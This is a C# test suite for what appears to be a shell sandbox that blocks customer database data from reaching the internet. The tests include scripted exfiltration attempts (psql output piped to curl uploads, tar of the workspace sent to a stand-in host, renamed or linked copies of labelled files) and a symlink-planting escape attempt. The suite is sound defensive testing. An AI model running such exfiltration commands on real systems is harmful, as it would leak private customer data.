using System.Diagnostics;
using System.Globalization;
using System.Text.Json;
using ShellGuard.System.Tests.Support;
using Xunit;

namespace ShellGuard.System.Tests.Walls;

/// <summary>"Internet access and database access, but no path left open from customer data to the internet, even if the
/// user needs both as part of the job."</summary>
public sealed class CustomerDataTests
{
    private const string Query = "psql -Atc 'select name from customers order by id'";

    [Theory, BothIdentities]
    public void Both_work_in_one_shell(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        Outcome outcome = world.Lobby(area, $"""
            echo start
            {Query}
            {Query} | wc -l
            {Query} | sort -r | head -n 1 | tr a-z A-Z
            {Query} > out.csv
            wc -l out.csv
            {Query} >> out.csv
            sort -u out.csv
            echo "select 6 * 7" | psql -At
            printf 'select 1;\nselect 2;\n' > query.sql
            psql -At -f query.sql
            psql -At < query.sql
            psql -At <<SQL
            select 'here-document';
            SQL
            ls
            curl -s $OUT
            echo from the lobby | curl -s -T - $OUT
            curl -s -T query.sql $OUT
            if {Query} > /dev/null; then echo yes; fi
            psql -c 'select nonsense' 2> /dev/null || echo no $?
            {Query} > /tmp/kept && wc -l /tmp/kept
            cd /tmp && {Query} | cat > kept2 && wc -l kept2
            echo end
            """);
        Assert.Equal(
            $"""
            start
            {CustomerWorld.Secret}
            Grace-Hopper-4712
            Mary-Shelley-4713
            3
            MARY-SHELLEY-4713
            3 out.csv
            {CustomerWorld.Secret}
            Grace-Hopper-4712
            Mary-Shelley-4713
            42
            1
            2
            1
            2
            here-document
            query.sql
            script.sh
            there
            there
            there
            yes
            no 1
            3 /tmp/kept
            3 kept2
            end

            """,
            outcome.Succeed().Output);
        Assert.Contains("from the lobby", world.Received, StringComparison.Ordinal);
        Assert.Contains("select 1;", world.Received, StringComparison.Ordinal);
        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
        Leftovers.AssertNone(area);
    }

    /// <summary>Whatever a person in the lobby tries, nothing gets out; and without walls each of it does, or nothing would
    /// be shown by that. What is refused is refused with conflict and path.</summary>
    [Theory, BothIdentities]
    public void No_path_leads_out(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        string begin = $"{Query} > out.csv\necho 'select 1' > query.sql\n";
        string script = begin
            + string.Concat(WaysOut.All.Select((way, number) => $"/bin/true {number}\n( {way} ) > /dev/null 2>&1\necho tried {number}\n"))
            + "echo harmless | curl -s -T - $OUT\n";
        Outcome outcome = world.Lobby(area, script);
        Assert.EndsWith($"tried {WaysOut.All.Count - 1}\nthere\n", outcome.Succeed().Output, StringComparison.Ordinal);
        Assert.Contains("harmless", world.Received, StringComparison.Ordinal);
        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
        Leftovers.AssertNone(area);
        HashSet<int> explained = Explained(area);
        Assert.Equal([], WaysOut.Refused.Where((_, number) => !explained.Contains(number)));

        world.Outside(area, begin + "shellguard() { shift 4; \"$@\"; }\nexport -f shellguard\n" + string.Concat(
            WaysOut.All.Select((way, number) => $"echo 'header = \"X-Way: <{number}>\"' > ~/.curlrc\n( {way} ) > /dev/null 2>&1\n")));
        string[] got = [.. world.Received.Split("=====\n").Where(entry => entry.Contains(CustomerWorld.Secret, StringComparison.Ordinal))];
        Assert.Equal(
            [], WaysOut.All.Where((_, number) => !got.Any(entry => entry.Contains($"<{number}>", StringComparison.Ordinal))));
    }

    /// <summary>The numbers of the ways that were denied with conflict and path; <c>/bin/true NUMBER</c> begins each.</summary>
    private static HashSet<int> Explained(TestArea area)
    {
        int current = -1;
        HashSet<int> explained = [];
        foreach (string line in area.Shellguard("log", "--json").Split('\n', StringSplitOptions.RemoveEmptyEntries))
        {
            using JsonDocument record = JsonDocument.Parse(line);
            JsonElement root = record.RootElement;
            if (root.GetProperty("event").GetString() is "exec" && root.GetProperty("argv") is var argv
                && argv.GetArrayLength() == 2 && argv[0].GetString() is "/bin/true")
            {
                current = int.Parse(argv[1].GetString()!, CultureInfo.InvariantCulture);
            }
            else if (root.GetProperty("event").GetString() is "access"
                && root.GetProperty("decisionName").GetString() is "deny"
                && root.GetProperty("reason").GetString() is { } reason
                && reason.Contains("conflict \"customer data\"", StringComparison.Ordinal)
                && reason.Contains("db:customers ", StringComparison.Ordinal)
                && reason.Contains("-> internet", StringComparison.Ordinal))
            {
                explained.Add(current);
            }
        }

        return explained;
    }

    /// <summary>Where a side's cell is made, a link that the lobby left in a place which sides see stands in the way of what is
    /// mounted there. It must not lead to the host.</summary>
    [Theory, BothIdentities]
    public void A_link_in_a_layer_leads_no_launch_to_the_host(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        using TestArea canary = new(identity);
        canary.Own();
        string[] before = Directory.GetFileSystemEntries(canary.Root);
        Outcome outcome = world.Lobby(area, $"""
            mv {area.Root} /var/tmp/moved && ln -s {canary.Root} {area.Root} && echo planted
            cd /
            {Query} | wc -l
            """);
        Assert.StartsWith("planted\n", outcome.Output, StringComparison.Ordinal);
        Assert.Equal(before.Order(), Directory.GetFileSystemEntries(canary.Root).Order());
        Leftovers.AssertNone(area);
    }

    [Theory, BothIdentities]
    public void A_refusal_names_conflict_and_path(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        Outcome outcome = world.Lobby(area, $"{Query} | curl -s -T - $OUT; echo ${{PIPESTATUS[*]}}");
        Assert.Equal("126 126\n", outcome.Output);
        Assert.Contains("conflict \"customer data\"", outcome.Errors, StringComparison.Ordinal);

        // The lobby may know the rule; the person is told the path, too.
        Assert.DoesNotContain("db ", outcome.Errors, StringComparison.Ordinal);
        string why = area.Shellguard("why", "1");
        Assert.Contains("psql | curl", why, StringComparison.Ordinal);
        Assert.Contains("walls.toml:", why, StringComparison.Ordinal);
        Assert.Contains("-> internet", why, StringComparison.Ordinal);

        // By what the person typed.
        Assert.Matches(@"psql \(pid \d+, db\) may not send to curl \(pid \d+, lobby\)", why);
        Assert.Matches(@"db:customers\s+psql \(pid \d+, db\) \(now\) -> curl \(pid \d+, lobby\) \(now\)", why);
        Assert.Matches(@"net:internet\s+curl \(pid \d+, lobby\) -> internet", why);
        Assert.Contains("may not send to curl", area.Shellguard("why", "1", "--json"), StringComparison.Ordinal);
    }

    /// <summary>What went before is told by the command that did it, and files by their names.</summary>
    [Theory, BothIdentities]
    public void A_refusal_names_the_file_and_who_wrote_it(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        Outcome outcome = world.Lobby(area, $"{Query} > out.csv; curl -s -T out.csv $OUT; echo $?");
        Assert.Equal("126\n", outcome.Output);
        Assert.DoesNotContain("out.csv", outcome.Errors, StringComparison.Ordinal);
        string why = area.Shellguard("why", "1");
        Assert.Matches(@"curl \(pid \d+, lobby\) may not see ""?out\.csv \(files of db\)", why);
        Assert.Matches(@"out\.csv \(files of db\)", why);
    }

    /// <summary>To be told no takes no cell, and so no time.</summary>
    [Fact]
    public void A_refused_pipeline_makes_no_cell()
    {
        using CustomerWorld world = new();
        using TestArea area = new(Identity.Ordinary);
        Outcome refused = world.Lobby(area, $"{Query} | curl -s -T - $OUT");
        Assert.Equal(126, refused.Status);
        Assert.DoesNotContain(": db, ", area.Shellguard("log"), StringComparison.Ordinal);
        Assert.Matches(@"psql \(pid \d+, db\) \(now\) -> curl \(pid \d+, lobby\) \(now\)", area.Shellguard("why"));
        world.Lobby(area, Query).Succeed();
        Assert.Contains(": db, label db:customers", area.Shellguard("log"), StringComparison.Ordinal);
    }

    [Theory, BothIdentities]
    public void A_lower_cell_learns_one_bit_of_an_exit_status(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        Outcome outcome = world.Lobby(area, """
            for status in 0 1 7 77 255; do
                shellguard run --in db -- sh -c "exit $status"
                echo $?
            done
            shellguard run --in db -- sh -c 'kill -9 $$'
            echo $?
            shellguard run --in db -- no-such-program
            echo $?
            """);
        Assert.Equal("0\n1\n1\n1\n1\n1\n127\n", outcome.Succeed().Output);
    }

    [Theory, BothIdentities]
    public void What_was_committed_keeps_its_label(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        world.Lobby(area, $"{Query} > out.csv; echo plain > plain.txt").Succeed();
        Assert.Contains(", with db:customers:", area.Shellguard("diff"), StringComparison.Ordinal);
        area.Shellguard("commit");
        Assert.Equal($"{CustomerWorld.Secret}\nGrace-Hopper-4712\nMary-Shelley-4713\n", File.ReadAllText($"{area.Work}/out.csv"));

        Outcome later = world.Lobby(area, """
            ls
            wc -l out.csv
            curl -s -T out.csv $OUT; echo $?
            cat out.csv | curl -s -T - $OUT
            curl -s -T plain.txt $OUT
            """);
        Assert.Equal("plain.txt\nscript.sh\n3 out.csv\n126\nthere\n", later.Output);
        Assert.Contains("plain", world.Received, StringComparison.Ordinal);
        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);

        // A session that knows nothing of walls does not see it either.
        area.InsideShell([], "ls out.csv").EndWith(2);
    }

    /// <summary>What sides write for the person goes to a file that the lobby could read, too, were it there.</summary>
    /// <summary>The layers of a side that changed nothing are removed at the end, and have the numbers of the lobby's.
    /// </summary>
    [Theory, BothIdentities]
    public void What_the_lobby_changed_stays_when_a_side_changed_nothing(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        world.Lobby(area, $"echo kept > plain.txt; {Query}").Succeed();
        Assert.Contains("plain.txt", area.Shellguard("diff"), StringComparison.Ordinal);
        area.Shellguard("commit");
        Assert.Equal("kept\n", File.ReadAllText($"{area.Work}/plain.txt"));
    }

    [Theory, BothIdentities]
    public void What_the_person_redirected_is_not_the_lobbys(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        const string attempts = "for file in log.txt errors.txt; do curl -s -T $file $OUT; cat $file | curl -s -T - $OUT; "
            + "cp $file copy; curl -s -T copy $OUT; done > /dev/null 2>&1; tar c . 2> /dev/null | curl -s -T - $OUT > /dev/null";
        string script = $"{Query}\n{Query} >&2\n{attempts}\n";
        Assert.Equal(0, world.Lobby(area, script, "log.txt", "errors.txt").Status);
        foreach (string file in (string[])["log.txt", "errors.txt"])
        {
            Assert.Contains(CustomerWorld.Secret, File.ReadAllText($"{area.Work}/{file}"), StringComparison.Ordinal);
        }

        // A later session knows what is in them.
        File.Move($"{area.Work}/errors.txt", $"{area.Work}/moved.txt");
        world.Lobby(area, attempts.Replace("errors.txt", "moved.txt", StringComparison.Ordinal)).Succeed();
        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
        Assert.Equal("3 log.txt\n", world.Lobby(area, "wc -l log.txt").Succeed().Output);
    }

    /// <summary>What another session sees was decided when it began: it would not know of the label.</summary>
    [Theory, BothIdentities]
    public void While_another_session_runs_nothing_with_a_label_comes_to_the_host(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        world.Lobby(area, $"{Query} > out.csv").Succeed();
        string first = Path.GetFileName(area.Sessions[0]);
        using (Process other = area.StartInside([], "/bin/sh", "-c", "echo ready; read line; cat out.csv log.txt"))
        {
            Assert.Equal("ready", other.StandardOutput.ReadLine());
            Outcome commit = area.Untouched(NativeBinary.Path, "commit", first).EndWith(1);
            Assert.Contains("runs, and would see it without its label", commit.Output + commit.Errors, StringComparison.Ordinal);
            Assert.False(File.Exists($"{area.Work}/out.csv"));
            Assert.NotEqual(0, world.Lobby(area, Query, "log.txt").Status);
            Assert.Equal("", File.ReadAllText($"{area.Work}/log.txt"));
            other.StandardInput.WriteLine("go");
            Assert.DoesNotContain(CustomerWorld.Secret, other.StandardOutput.ReadToEnd(), StringComparison.Ordinal);
            other.WaitForExit();
        }

        area.Untouched(NativeBinary.Path, "commit", first).Succeed();
        Assert.Contains(CustomerWorld.Secret, File.ReadAllText($"{area.Work}/out.csv"), StringComparison.Ordinal);
        area.InsideShell([], "ls out.csv").EndWith(2);
    }

    [Theory, BothIdentities]
    public void What_was_committed_keeps_its_label_under_another_name(Identity identity)
    {
        using CustomerWorld world = new();
        using TestArea area = new(identity);
        world.Lobby(area, $"{Query} > out.csv").Succeed();
        area.Shellguard("commit");

        // Outside of any session.
        Directory.CreateDirectory($"{area.Work}/deep");
        File.Move($"{area.Work}/out.csv", $"{area.Work}/deep/notes.txt");
        Programs.Run("ln", $"{area.Work}/deep/notes.txt", $"{area.Work}/more.txt").Succeed();
        Programs.Run("cp", $"{area.Work}/deep/notes.txt", $"{area.Work}/copy.txt").Succeed();
        area.Own();
        Outcome later = world.Lobby(area, """
            ls . deep
            wc -l more.txt
            curl -s -T deep/notes.txt $OUT; echo $?
            curl -s -T more.txt $OUT; echo $?
            curl -s -T copy.txt $OUT; echo $?
            cat deep/notes.txt | curl -s -T - $OUT
            cat copy.txt | curl -s -T - $OUT
            """);
        Assert.Equal(".:\ndeep\nscript.sh\n\ndeep:\n3 more.txt\n126\n126\n126\n", later.Output);
        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
    }
}
